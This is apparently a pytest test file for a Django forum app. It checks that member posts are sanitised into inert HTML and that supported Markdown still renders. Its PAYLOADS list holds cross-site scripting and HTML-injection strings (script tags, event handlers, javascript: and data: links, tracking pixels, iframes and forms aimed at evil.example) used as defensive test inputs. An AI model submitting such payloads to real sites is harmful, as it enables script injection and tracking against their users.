"""What a member writes is stored as sanitised HTML: nothing runs, loads from elsewhere or
restyles the page, and the Markdown we promise still renders."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.conf import settings

from cerchia.core import testing
from cerchia.discussions import actions
from cerchia.discussions.models import Post

pytestmark = pytest.mark.django_db

ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
    "a", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
    "input", "img", "sup", "sub",
}  # fmt: skip
SAFE_SCHEMES = {"", "http", "https", "mailto"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">click</a>',
    '<body onload="alert(1)">',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    '<svg><script href="data:,alert(1)" /></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    '<div style="position:fixed;inset:0;background:red">cover</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=p><button>Go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![pixel](https://tracker.example/pixel.gif)",
    "![pixel](//tracker.example/pixel.gif)",
    "![pixel](HTTPS://TRACKER.example/pixel.gif)",
    "![pixel][ref]\n\n[ref]: https://tracker.example/pixel.gif",
    "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](/media/x.png" onerror="alert(1))',
    "<!-- hidden --><b>raw html</b>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_inert(html: str) -> None:
    """Only allowed tags; no event handlers or styles; links and images safe."""
    collector = _Collector()
    collector.feed(html)
    assert not collector.comments
    site = urlsplit(settings.SITE_URL).netloc.lower()
    for tag, attrs in collector.elements:
        assert tag in ALLOWED_TAGS, (tag, html)
        for name in attrs:
            assert not name.startswith("on"), (tag, name, html)
            assert name not in {"style", "srcset", "formaction", "background"}, (tag, name, html)
        if tag == "a" and "href" in attrs:
            href = attrs["href"] or ""
            assert urlsplit(href).scheme.lower() in SAFE_SCHEMES, html
            if urlsplit(href).netloc:
                assert attrs.get("rel") == "nofollow ugc noopener", html
        if tag == "img" and attrs.get("src"):
            src = urlsplit(attrs["src"] or "")
            assert src.scheme in {"", "http", "https"}, html
            assert not src.netloc or src.netloc.lower() == site, html
        if tag == "input":
            assert attrs.get("type") == "checkbox", html


@pytest.fixture
def topic(public_community, member):
    return testing.make_topic(public_community, member, title="Safety", body="Opening")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_reply_body_is_stored_inert(topic, moderator, payload):
    post = actions.create_reply(moderator, topic, body=payload)
    stored = Post.objects.get(pk=post.pk).body_html
    assert_inert(stored)
    lowered = stored.lower()
    assert "<script" not in lowered
    assert "<style" not in lowered
    assert "<iframe" not in lowered
    assert "<svg" not in lowered
    assert 'href="javascript' not in lowered
    assert 'src="https://tracker' not in lowered


@pytest.mark.parametrize("payload", PAYLOADS[:8])
def test_topic_body_and_edit_are_stored_inert(public_community, member, payload):
    topic = actions.create_topic(member, public_community, title="Payload", body=payload)
    opening = Post.objects.get(topic=topic, number=1)
    assert_inert(opening.body_html)
    actions.edit_post(member, opening, body=f"Edited: {payload}")
    assert_inert(Post.objects.get(pk=opening.pk).body_html)


def test_raw_html_is_shown_as_text(topic, moderator):
    post = actions.create_reply(moderator, topic, body="<b>bold?</b> <div>block?</div>")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in post.body_html
    assert "<b>" not in post.body_html
    assert "<div" not in post.body_html


def test_remote_images_do_not_load_but_same_site_images_do(topic, moderator):
    body = (
        "![remote](https://tracker.example/p.gif) "
        "![local](/media/attachments/a.png) "
        f"![absolute]({settings.SITE_URL}/media/attachments/b.png)"
    )
    post = actions.create_reply(moderator, topic, body=body)
    assert "tracker.example" not in post.body_html
    assert 'src="/media/attachments/a.png"' in post.body_html
    assert f'src="{settings.SITE_URL}/media/attachments/b.png"' in post.body_html


def test_external_links_get_rel(topic, moderator):
    post = actions.create_reply(
        moderator, topic, body="[site](https://example.org/page) and https://example.com/auto"
    )
    html = post.body_html
    assert '<a href="https://example.org/page" rel="nofollow ugc noopener">site</a>' in html
    assert (
        '<a href="https://example.com/auto" rel="nofollow ugc noopener">'
        "https://example.com/auto</a>" in html
    )


def test_supported_markdown_renders(topic, moderator):
    body = (
        "| Bean | Roast |\n|------|:-----:|\n| Kenya | light |\n\n"
        "~~decaf~~\n\n"
        "See www.example.org and https://example.org/x\n\n"
        "```python\nprint('<hello>')\n```\n\n"
        "- [x] grind\n- [ ] brew\n\n"
        "> quoted **bold** _em_"
    )
    html = actions.create_reply(moderator, topic, body=body).body_html
    assert_inert(html)
    assert "<table>" in html
    assert "<th style" not in html
    assert "<td>Kenya</td>" in html
    assert "<s>decaf</s>" in html or "<del>decaf</del>" in html
    assert '<a href="http://www.example.org" rel="nofollow ugc noopener">' in html
    assert '<a href="https://example.org/x" rel="nofollow ugc noopener">' in html
    assert '<pre><code class="language-python">print(' in html
    assert "&lt;hello&gt;" in html
    assert 'type="checkbox"' in html
    assert "<blockquote>" in html
    assert "<strong>bold</strong>" in html
    assert "<em>em</em>" in html


def test_code_class_cannot_smuggle_other_classes(topic, moderator):
    html = actions.create_reply(moderator, topic, body="```x onclick=alert(1)\ncode\n```").body_html
    assert_inert(html)
    assert "onclick" not in html.split("<code", 1)[1].split(">", 1)[0]
